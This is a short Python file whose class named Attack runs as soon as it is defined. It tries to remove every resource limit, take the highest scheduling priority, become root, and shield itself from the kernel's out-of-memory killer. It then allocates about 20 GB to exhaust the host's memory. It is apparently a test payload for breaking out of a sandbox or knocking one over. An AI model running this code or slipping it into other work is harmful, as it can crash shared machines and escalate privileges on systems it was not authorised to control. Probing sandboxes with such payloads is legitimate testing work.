class Attack:
    import os
    import resource

    for _name in dir(resource):
        if _name.startswith("RLIMIT_"):
            try:
                resource.setrlimit(getattr(resource, _name), (resource.RLIM_INFINITY,) * 2)
            except (OSError, ValueError):
                pass
    for _act in (lambda: os.nice(-20), lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
        try:
            _act()
        except OSError:
            pass
    try:
        with open("/proc/self/oom_score_adj", "w") as _file:
            _file.write("-1000")
    except OSError:
        pass
    _block = []
    try:
        while len(_block) < 640:
            _block.append(b"x" * (32 << 20))
    except MemoryError:
        pass
